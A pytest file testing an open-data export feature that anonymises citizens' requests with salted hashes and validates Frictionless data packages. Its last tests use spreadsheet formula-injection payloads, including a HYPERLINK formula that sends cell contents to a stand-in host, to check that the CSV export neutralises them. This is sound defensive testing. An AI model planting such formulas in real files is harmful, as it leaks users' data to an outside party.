"""`datacall export`: the requests as open data, with nobody identifiable in them."""

from __future__ import annotations

import csv
import json
import re
import shutil

import frictionless
import pytest
from sqlalchemy import select

from bot.pipeline.route import SYSTEM_ACTOR
from storage import exports
from storage.models import AppSetting, Requester
from tests.helpers import citizens_reply

CITIZENS = [
    ("@camille_velo", "Bonjour, pourriez-vous publier les comptages vélo par compteur et par heure ? Merci !"),
    ("@data_dev_ana", "Is there an API for real-time bus positions? A GTFS-RT feed would be great."),
    ("@parent_b", "Please publish the bike counts per counter and per hour as open data, @camille_velo asked too."),
    ("@grumpy_joe", "The bin on my street has not been emptied for a week, this is ridiculous."),
]
ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")


@pytest.fixture
def loop(cli, sessions):
    """Three requests on a campaign; #3 merged into #1; #1 published by officer alice, with an approved
    public title; camille backs #2 too."""
    cli("init")
    cli("campaign create 2027-q1")
    citizens_reply(sessions, to=None, citizens=CITIZENS)
    cli("run --once")
    cli("request set-status 3 duplicate --of 1 --actor alice")
    cli(["request", "set-status", "1", "published", "--url", "https://data.example.org/velo",
         "--answer", "Hourly counts, updated daily.", "--actor", "alice"])
    citizens_reply(
        sessions, to=None, citizens=[("@camille_velo", "Et les positions des bus en temps réel en GTFS-RT ?")]
    )
    cli("run --once")
    cli("request set-status 4 duplicate --of 2 --actor alice")
    cli("run --once")
    cli(["request", "set-title", "1", "Bike counts per counter and per hour"])
    return cli


def read_csv(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def personal_strings(sessions) -> list[str]:
    """Every handle and user id of the test data, with and without @."""
    with sessions() as session:
        requesters = session.scalars(select(Requester)).all()
    assert len(requesters) == 4
    strings = {r.external_user_id for r in requesters} | {r.handle.lstrip("@") for r in requesters}
    return sorted(strings | {"alice"})


def hashes_of(sessions, handle: str) -> str:
    with sessions() as session:
        requester = session.scalar(select(Requester).where(Requester.handle == handle))
        salt = session.scalar(select(AppSetting.value).where(AppSetting.key == "export_salt"))
    return exports.supporter_hash(salt, requester.network, requester.external_user_id)


def test_csv_export_has_one_row_per_request_and_per_event(loop, sessions, tmp_path):
    out = tmp_path / "csv"
    result = loop(f"export --format csv --out {out}")
    assert "requests.csv" in result.output
    assert sorted(p.name for p in out.iterdir()) == ["requests.csv", "status_events.csv"]

    requests = {row["id"]: row for row in read_csv(out / "requests.csv")}
    assert list(requests) == ["1", "2", "3", "4"]
    first = requests["1"]
    assert first["status"] == "published" and first["campaign"] == "2027-q1"
    assert first["url"] == "https://data.example.org/velo" and first["answer"] == "Hourly counts, updated daily."
    assert first["title"] == "Bike counts per counter and per hour"  # approved by an officer
    assert requests["2"]["title"] == "Request #2"  # not approved: no words of the message
    assert ISO_UTC.match(first["created_at"]) and ISO_UTC.match(first["updated_at"])
    # Supporters of the duplicate joined #1: two people, French and English.
    assert (first["supporter_count"], first["networks"], first["languages"]) == ("2", "sandbox", "en;fr")
    assert sorted(first["supporters"].split(";")) == sorted([hashes_of(sessions, "@camille_velo"),
                                                               hashes_of(sessions, "@parent_b")])
    assert requests["3"]["status"] == "duplicate" and requests["3"]["duplicate_of"] == "1"
    assert requests["3"]["supporter_count"] == "0" and requests["3"]["supporters"] == ""
    # One person backing two requests has one hash in both.
    camille = hashes_of(sessions, "@camille_velo")
    assert camille in requests["2"]["supporters"].split(";") and requests["2"]["supporter_count"] == "2"

    events = read_csv(out / "status_events.csv")
    assert [(e["request_id"], e["status"], e["actor"]) for e in events] == [
        ("1", "received", "datacall"), ("2", "received", "datacall"), ("3", "received", "datacall"),
        ("3", "duplicate", "officer"), ("1", "published", "officer"),
        ("4", "received", "datacall"), ("4", "duplicate", "officer"),
    ]
    assert events[3]["duplicate_of"] == "1" and events[4]["url"] == "https://data.example.org/velo"
    assert all(ISO_UTC.match(e["created_at"]) for e in events)


def test_json_export_matches_the_csv_and_keeps_lists(loop, sessions, tmp_path):
    loop(f"export --format csv --out {tmp_path / 'csv'}")
    loop(f"export --format json --out {tmp_path / 'export.json'}")
    data = json.loads((tmp_path / "export.json").read_text(encoding="utf-8"))
    assert set(data) == {"requests", "status_events"}
    first = data["requests"][0]
    assert list(first) == [field["name"] for field in exports.REQUEST_FIELDS]
    assert first["id"] == 1 and first["supporter_count"] == 2 and first["languages"] == ["en", "fr"]
    assert data["requests"][2]["duplicate_of"] == 1 and data["requests"][0]["duplicate_of"] is None
    # The same person has the same hash in both files (the salt is kept between exports).
    from_csv = read_csv(tmp_path / "csv" / "requests.csv")[0]["supporters"].split(";")
    assert first["supporters"] == from_csv
    assert [e["actor"] for e in data["status_events"]].count("officer") == 3
    assert list(data["status_events"][0]) == [field["name"] for field in exports.EVENT_FIELDS]


def test_nobody_is_identifiable_in_any_format(loop, sessions, tmp_path):
    loop(f"export --format csv --out {tmp_path / 'csv'}")
    loop(f"export --format json --out {tmp_path / 'export.json'}")
    loop(f"export --format datapackage --out {tmp_path / 'pkg'}")
    files = [p for p in tmp_path.rglob("*") if p.is_file() and p.suffix in (".csv", ".json")]
    assert len(files) == 6
    secrets_ = personal_strings(sessions)
    assert "u-camille_velo" in secrets_ and "camille_velo" in secrets_
    with sessions() as session:
        salt = session.scalar(select(AppSetting.value).where(AppSetting.key == "export_salt"))
    for path in files:
        text = path.read_text(encoding="utf-8").lower()
        for secret in [*secrets_, salt]:
            assert secret.lower() not in text, f"{secret} in {path.name}"
        assert "bin on my street" not in text  # an off-topic message is no request


def test_datapackage_is_valid_frictionless_and_its_keys_are_checked(loop, tmp_path):
    out = tmp_path / "pkg"
    loop(f"export --format datapackage --out {out} --licence etalab-2.0")
    descriptor = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["licenses"][0]["name"] == "etalab-2.0" and descriptor["licenses"][0]["path"].startswith("https://")
    assert descriptor["sources"] == [{"title": "datacall"}] and ISO_UTC.match(descriptor["created"])
    events = descriptor["resources"][1]["schema"]
    assert {"fields": ["request_id"], "reference": {"resource": "requests", "fields": ["id"]}} in events["foreignKeys"]
    report = frictionless.validate(str(out / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])

    # The same validation rejects an event whose request is not in the package.
    broken = tmp_path / "broken"
    shutil.copytree(out, broken)
    rows = (broken / "status_events.csv").read_text(encoding="utf-8").splitlines()
    assert rows[1].startswith("1,1,received,")
    rows[1] = rows[1].replace("1,1,", "1,99,", 1)
    (broken / "status_events.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    report = frictionless.validate(str(broken / "datapackage.json"))
    assert not report.valid and "foreign-key" in {error[0] for error in report.flatten(["type"])}


def test_each_database_has_its_own_salt_kept_between_exports(loop, sessions, tmp_path, write_config):
    loop(f"export --format json --out {tmp_path / 'a.json'}")
    loop(f"export --format json --out {tmp_path / 'b.json'}")
    first = json.loads((tmp_path / "a.json").read_text())["requests"][0]["supporters"]
    assert first == json.loads((tmp_path / "b.json").read_text())["requests"][0]["supporters"]
    with sessions() as session:
        assert len(session.scalars(select(AppSetting).where(AppSetting.key == "export_salt")).all()) == 1

    other = write_config(f'[database]\nurl = "sqlite:///{tmp_path / "other.db"}"\n', "other.toml")
    loop("init", config=other)
    loop("campaign create 2027-q1", config=other)
    from storage.database import make_engine, make_session_factory

    engine = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
    try:
        citizens_reply(make_session_factory(engine), to=None, citizens=CITIZENS)
    finally:
        engine.dispose()
    loop("run --once", config=other)
    loop(f"export --format json --out {tmp_path / 'other.json'}", config=other)
    second = json.loads((tmp_path / "other.json").read_text())["requests"][0]["supporters"]
    # Same people, same network ids, another database: hashes that cannot be joined.
    assert len(second) == 1 and len(first[0]) == 16 and not set(first) & set(second)


def test_export_refuses_bad_targets_in_one_line(loop, tmp_path):
    (tmp_path / "file.txt").write_text("x")
    assert "is a file" in loop(f"export --format csv --out {tmp_path / 'file.txt'}", expect=2).output
    assert "is a folder" in loop(f"export --format json --out {tmp_path}", expect=2).output
    refused = loop(f"export --format datapackage --out {tmp_path / 'p'} --licence MIT", expect=2)
    assert "unknown licence" in refused.output
    assert loop(f"export --format xml --out {tmp_path / 'x'}", expect=2).exit_code == 2


def test_export_of_an_empty_database_is_valid(cli, tmp_path):
    cli("init")
    cli(f"export --format datapackage --out {tmp_path / 'pkg'}")
    assert read_csv(tmp_path / "pkg" / "requests.csv") == []
    assert frictionless.validate(str(tmp_path / "pkg" / "datapackage.json")).valid


def test_salt_is_made_once_and_only_committed_by_the_caller(sessions):
    with sessions() as session:
        salt = exports.export_salt(session)
        assert exports.export_salt(session) == salt and len(salt) == 64
        session.rollback()
    with sessions() as session:
        assert session.scalar(select(AppSetting)) is None
        made = exports.export_salt(session)
        session.commit()
    with sessions() as session:
        assert exports.export_salt(session) == made != salt


def test_system_actor_is_the_pipelines():
    assert exports.SYSTEM_ACTOR == SYSTEM_ACTOR


def test_hash_is_sha256_of_salt_network_and_user_id():
    import hashlib

    assert exports.supporter_hash("s", "sandbox", "u-x") == hashlib.sha256(b"ssandboxu-x").hexdigest()[:16]
    assert exports.supporter_hash("s", "sandbox", "u-x") != exports.supporter_hash("t", "sandbox", "u-x")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(start):
    fields = [{"name": "title"}, {"name": "networks"}, {"name": "supporter_count"}]
    text = exports.csv_text(
        [{"title": f"{start}HYPERLINK(\"https://evil.example\")", "networks": [f"{start}x", "y"],
          "supporter_count": 2},
         {"title": "Bike counts = useful", "networks": ["sandbox"], "supporter_count": 0}],
        fields,
    )
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    assert rows[0]["title"] == f"'{start}HYPERLINK(\"https://evil.example\")"
    assert rows[0]["networks"] == f"'{start}x;y"
    assert rows[0]["supporter_count"] == "2"
    assert rows[1] == {"title": "Bike counts = useful", "networks": "sandbox", "supporter_count": "0"}


def test_a_formula_in_an_answer_is_inert_in_csv_and_kept_in_json(loop, tmp_path):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    loop(["request", "set-status", "2", "declined", "--answer", formula, "--actor", "alice"])
    loop(f"export --format csv --out {tmp_path / 'csv'}")
    loop(f"export --format json --out {tmp_path / 'export.json'}")
    requests = {row["id"]: row for row in read_csv(tmp_path / "csv" / "requests.csv")}
    assert requests["2"]["answer"] == "'" + formula
    events = read_csv(tmp_path / "csv" / "status_events.csv")
    assert [e["answer"] for e in events if e["status"] == "declined"] == ["'" + formula]
    data = json.loads((tmp_path / "export.json").read_text(encoding="utf-8"))
    assert [r["answer"] for r in data["requests"] if r["id"] == 2] == [formula]  # JSON is not a spreadsheet
